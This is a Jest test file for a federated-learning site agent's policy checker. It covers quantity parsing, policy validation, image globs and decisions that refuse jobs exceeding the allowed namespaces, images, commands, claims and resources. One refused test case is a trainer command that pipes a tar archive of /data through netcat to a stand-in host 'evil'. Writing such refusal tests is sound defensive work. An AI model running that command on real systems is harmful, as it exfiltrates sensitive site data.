import { describe, expect, test } from '@jest/globals';
import type { Assignment } from '../sitelink/assignment.js';
import { NO_POLICY, parsePolicy } from './policy.js';
import { decide, decideAll, imageMatches, type PolicyDecision } from './policy-decision.js';
import { parseQuantity } from './quantity.js';

const manifest = (job: string, trainer: unknown = { builtin: { model: 'LogisticRegression' } }, namespace = 'cardiology') =>
  JSON.stringify({ apiVersion: 'flotilla.dev/v1alpha1', kind: 'FederatedJob', metadata: { name: job, namespace, uid: `uid-${job}` }, spec: { trainer } });
const job = (name: string, overrides: Partial<Assignment> = {}): Assignment => ({
  namespace: 'cardiology',
  job: name,
  jobUid: `uid-${name}`,
  generation: 1,
  aggregatorAddress: 'a:1',
  image: 'ghcr.io/flotilla/flotilla:0.1.0',
  jobManifest: manifest(name, undefined, overrides.namespace ?? 'cardiology'),
  resourceLimits: {},
  resourceRequests: {},
  nodeSelector: {},
  tolerationsJson: '[]',
  ...overrides,
});
const site = { defaultDataClaim: 'site-data' };
const reasonOf = (d: PolicyDecision) => (d.allowed ? undefined : d.reason);

describe('quantities', () => {
  test.each([
    ['500m', 0.5],
    ['2', 2],
    ['1.5Gi', 1.5 * 2 ** 30],
    ['4G', 4e9],
    ['1e3', 1000],
    ['128Mi', 128 * 2 ** 20],
  ])('%s is %d', (text, value) => expect(parseQuantity(text)).toBeCloseTo(value));

  test('anything else is refused', () => {
    for (const bad of ['', 'two', '1.5.2', '4 Gi', '1GiB']) expect(() => parseQuantity(bad)).toThrow(/not a Kubernetes quantity/);
  });
});

describe('policy files', () => {
  test('fields are checked, unknown ones refused, allowGpu defaults to false', () => {
    expect(parsePolicy({ maxCpu: 4, maxMemory: '8Gi', maxConcurrentJobs: 2 })).toEqual({ allowGpu: false, maxCpu: '4', maxMemory: '8Gi', maxConcurrentJobs: 2 });
    expect(() => parsePolicy({ maxCPU: '4' })).toThrow(/unknown field maxCPU/);
    expect(() => parsePolicy({ allowedImages: 'ghcr.io/*' })).toThrow(/allowedImages must be a list of strings/);
    expect(() => parsePolicy({ maxMemory: 'lots' })).toThrow(/maxMemory: "lots" is not a Kubernetes quantity/);
    expect(() => parsePolicy({ maxConcurrentJobs: 1.5 })).toThrow(/whole number/);
    expect(() => parsePolicy({ allowGpu: 'yes' })).toThrow(/allowGpu must be true or false/);
  });

  test('the allowlists: trainers, claims, node selectors and tolerations', () => {
    expect(
      parsePolicy({
        trainers: { builtin: true, commands: [['python3', '/opt/train.py']] },
        allowedClaims: ['records'],
        allowedNodeSelectors: { pool: ['research'] },
        allowedTolerations: [{ key: 'research', operator: 'Exists', effect: 'NoSchedule' }],
      }),
    ).toEqual({
      allowGpu: false,
      trainers: { builtin: true, commands: [['python3', '/opt/train.py']] },
      allowedClaims: ['records'],
      allowedNodeSelectors: { pool: ['research'] },
      allowedTolerations: [{ key: 'research', operator: 'Exists', effect: 'NoSchedule' }],
    });
    expect(() => parsePolicy({ trainers: { commands: ['python3 train.py'] } })).toThrow(/trainers.commands must be a list of commands, each a non-empty list/);
    expect(() => parsePolicy({ trainers: { builtins: true } })).toThrow(/unknown field trainers.builtins/);
    expect(() => parsePolicy({ allowedNodeSelectors: { pool: 'research' } })).toThrow(/allowedNodeSelectors.pool must be a list/);
    expect(() => parsePolicy({ allowedTolerations: [{ key: 'a', tolerate: 'all' }] })).toThrow(/allowedTolerations\[0\] has an unknown field tolerate/);
  });
});

describe('image globs', () => {
  test("'*' stays within a path segment, '**' crosses them", () => {
    expect(imageMatches('ghcr.io/flotilla/*', 'ghcr.io/flotilla/flotilla:0.1.0')).toBe(true);
    expect(imageMatches('ghcr.io/flotilla/*', 'ghcr.io/flotilla/x/y:1')).toBe(false);
    expect(imageMatches('ghcr.io/flotilla/**', 'ghcr.io/flotilla/x/y:1')).toBe(true);
    expect(imageMatches('ghcr.io/flotilla*', 'ghcr.io/flotilla-evil/x')).toBe(false);
    expect(imageMatches('registry.local/flotilla:0.?.0', 'registry.local/flotilla:0.1.0')).toBe(true);
    // Dots are literal.
    expect(imageMatches('ghcr.io/flotilla/*', 'ghcrxio/flotilla/a')).toBe(false);
  });
});

describe('deny by default', () => {
  test('without a policy file nothing runs, and the refusal says why', () => {
    expect(reasonOf(decide(NO_POLICY, job('heart'), site))).toMatch(/runs without a policy file \(flotilla site-agent --policy FILE\), so nothing may run here/);
  });

  test('an empty policy allows nothing: each allowlist left out allows none', () => {
    const empty = parsePolicy({});
    expect(reasonOf(decide(empty, job('heart'), site))).toMatch(/jobs of hub namespace cardiology are not allowed \(allowedJobNamespaces: none\)/);
    const namespaces = parsePolicy({ allowedJobNamespaces: ['cardiology'] });
    expect(reasonOf(decide(namespaces, job('heart'), site))).toMatch(/matches none of allowedImages \(none\)/);
    const images = parsePolicy({ allowedJobNamespaces: ['cardiology'], allowedImages: ['ghcr.io/flotilla/**'] });
    expect(reasonOf(decide(images, job('heart'), site))).toMatch(/the built-in trainer is not allowed \(trainers.builtin\)/);
  });
});

describe('decisions', () => {
  const policy = parsePolicy({
    allowedJobNamespaces: ['cardiology'],
    allowedImages: ['ghcr.io/flotilla/**'],
    trainers: { builtin: true, commands: [['python3', '/opt/trainer/train.py']] },
    allowedClaims: ['cardiology-records'],
    allowedNodeSelectors: { pool: ['research', 'gpu'] },
    allowedTolerations: [
      { key: 'research', operator: 'Exists', effect: 'NoSchedule' },
      { key: 'node.kubernetes.io/unreachable', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 },
    ],
    maxCpu: '2',
    maxMemory: '4Gi',
  });

  test('an assignment within the policy: its pod is made of what was checked, the ceilings as its limits', () => {
    const decision = decide(
      policy,
      job('heart', {
        resourceRequests: { cpu: '500m' },
        resourceLimits: { memory: '1Gi' },
        dataClaimName: 'cardiology-records',
        nodeSelector: { pool: 'research' },
        tolerationsJson: JSON.stringify([{ key: 'node.kubernetes.io/unreachable', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 60 }]),
      }),
      site,
    );
    expect(decision).toEqual({
      allowed: true,
      resources: { limits: { memory: '1Gi', cpu: '2' }, requests: { cpu: '500m' } },
      jobFile: manifest('heart'),
      claimName: 'cardiology-records',
      nodeSelector: { pool: 'research' },
      tolerations: [{ key: 'node.kubernetes.io/unreachable', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 60 }],
    });
    // No claim named: the site's own.
    expect(decide(policy, job('heart'), site)).toMatchObject({ allowed: true, claimName: 'site-data' });
  });

  test("a bring-your-own trainer runs only as one of the policy's commands, and the job file carries the policy's copy", () => {
    const command = ['python3', '/opt/trainer/train.py'];
    const decision = decide(policy, job('byo', { jobManifest: manifest('byo', { command }) }), site);
    expect(decision.allowed).toBe(true);
    const file = JSON.parse((decision as { jobFile: string }).jobFile);
    expect(file.spec.trainer.command).toEqual(command);
    expect(file.spec.trainer.command).not.toBe(command);
  });

  test.each([
    [{ namespace: 'oncology', jobManifest: manifest('x', undefined, 'oncology') }, /hub namespace oncology are not allowed/],
    [{ image: 'docker.io/evil:latest' }, /matches none of allowedImages/],
    [{ jobManifest: manifest('x', { command: ['sh', '-c', 'tar c /data | nc evil 80'] }) }, /trainer command \["sh","-c","tar c \/data \| nc evil 80"\] is not one of trainers.commands/],
    [{ jobManifest: manifest('x', { command: ['python3', '/opt/trainer/train.py', '--exfiltrate'] }) }, /is not one of trainers.commands/],
    [{ jobManifest: manifest('x', { command: 'python3' }) }, /names no trainer the site can check/],
    [{ jobManifest: 'not json' }, /not JSON/],
    [{ jobManifest: manifest('other') }, /the job manifest names cardiology\/other \(uid uid-other\), not the assigned cardiology\/x/],
    [{ dataClaimName: 'oncology-records' }, /claim oncology-records is not allowed \(the site's data claim site-data, allowedClaims: cardiology-records\)/],
    [{ nodeSelector: { 'kubernetes.io/hostname': 'records-node' } }, /node selector kubernetes.io\/hostname=records-node is not allowed \(allowedNodeSelectors.kubernetes.io\/hostname: none\)/],
    [{ nodeSelector: { pool: 'secure' } }, /node selector pool=secure is not allowed \(allowedNodeSelectors.pool: research, gpu\)/],
    [{ tolerationsJson: '[{"operator":"Exists"}]' }, /toleration <any key> \(Exists\) is not allowed/],
    [{ tolerationsJson: '[{"key":"node.kubernetes.io/unreachable","operator":"Exists","effect":"NoExecute"}]' }, /toleration node.kubernetes.io\/unreachable:NoExecute \(Exists\) is not allowed/],
    [{ tolerationsJson: '[{"key":"research","operator":"Exists","effect":"NoSchedule","evil":1}]' }, /the job's tolerations\[0\] has an unknown field evil/],
    [{ resourceLimits: { 'nvidia.com/gpu': '1' } }, /allows no GPUs/],
    [{ resourceLimits: { cpu: '2500m' } }, /cpu limit 2500m is above the site's ceiling 2/],
    [{ resourceRequests: { memory: '5Gi' } }, /memory request 5Gi is above the site's ceiling 4Gi/],
    [{ resourceRequests: { memory: 'much' } }, /resource memory: "much" is not a Kubernetes quantity/],
  ] as [Partial<Assignment>, RegExp][])('%j is refused', (overrides, reason) => {
    const decision = decide(policy, job('x', { jobManifest: manifest('x'), ...overrides }), site);
    expect(decision.allowed).toBe(false);
    expect(reasonOf(decision)).toMatch(/^refused by the site's policy: /);
    expect(reasonOf(decision)).toMatch(reason);
  });

  test('GPUs pass when the site allows them', () => {
    expect(decide({ ...policy, allowGpu: true }, job('x', { resourceLimits: { 'nvidia.com/gpu': '1' } }), site).allowed).toBe(true);
  });

  test('maxConcurrentJobs admits running jobs first, then new ones in order', () => {
    const limited = { ...policy, maxConcurrentJobs: 2 };
    const set = [job('a'), job('b'), job('c'), job('evil', { image: 'docker.io/evil' })];
    const fresh = decideAll(limited, set, new Set(), site);
    expect([...fresh].map(([k, d]) => [k, d.allowed])).toEqual([
      ['cardiology/a', true],
      ['cardiology/b', true],
      ['cardiology/c', false],
      ['cardiology/evil', false],
    ]);
    const withC = decideAll(limited, set, new Set(['cardiology/c']), site);
    expect(withC.get('cardiology/c')!.allowed).toBe(true);
    expect(withC.get('cardiology/a')!.allowed).toBe(true);
    expect(reasonOf(withC.get('cardiology/b')!)).toMatch(/at most 2 job\(s\) at once/);
  });

  test("a set decided again takes each assignment's own decision from the caller's record, limits applied afresh", () => {
    const limited = { ...policy, maxConcurrentJobs: 1 };
    const [a, b] = [job('a'), job('b')];
    const decided = new WeakMap<Parameters<typeof decide>[1], PolicyDecision>();
    expect([...decideAll(limited, [a, b], new Set(), site, decided).values()].map((d) => d.allowed)).toEqual([true, false]);
    // Recorded: b's own decision is that it is allowed (the limit is the set's, not b's).
    expect(decided.get(b)!.allowed).toBe(true);
    // Taken from the record, not decided again: a record saying refused is what comes back.
    decided.set(a, { allowed: false, reason: 'recorded' });
    const again = decideAll(limited, [a, b], new Set(), site, decided);
    expect(reasonOf(again.get('cardiology/a')!)).toBe('recorded');
    expect(again.get('cardiology/b')!.allowed).toBe(true);
  });
});
